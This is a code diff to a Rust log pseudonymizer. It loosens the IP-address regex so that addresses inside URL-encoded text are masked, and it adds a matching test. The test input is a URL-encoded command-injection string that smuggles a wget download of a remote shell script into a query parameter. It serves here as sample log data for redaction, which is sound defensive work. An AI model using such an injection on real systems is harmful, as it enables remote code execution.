@@ -47,10 +47,12 @@ pub struct Pseudonymizer {
 }
 
 /// An IPv4 or IPv6 address in text (IPv6 loosely: hex groups with colons, at least two).
+/// No word boundaries: in `%2F%2F198.51.100.9%2F` the address follows a letter, and
+/// hiding a few digits too many is better than leaking one address.
 static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(
         r"(?x)
-        \b(?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3}\b
+        (?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3}
         | (?:[0-9A-Fa-f]{1,4}:){2,7}[0-9A-Fa-f]{1,4}
         | (?:[0-9A-Fa-f]{1,4}:){1,7}:(?:[0-9A-Fa-f]{1,4}(?::[0-9A-Fa-f]{1,4}){0,6})?
         | ::(?:[0-9A-Fa-f]{1,4}:){0,6}[0-9A-Fa-f]{1,4}",
@@ -344,6 +346,8 @@ mod tests {
             out.contains("token=REDACTED") && out.contains("page=2"),
             "{out}"
         );
+        let encoded = p.text("GET /ping?host=x%3Bwget%20http%3A%2F%2F198.51.100.9%2Fx.sh");
+        assert!(!encoded.contains("198.51.100.9"), "{encoded}");
         let sudo = "Mar 11 10:00:00 web1 sudo[7]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id";
         let out = p.text(sudo);
         assert!(
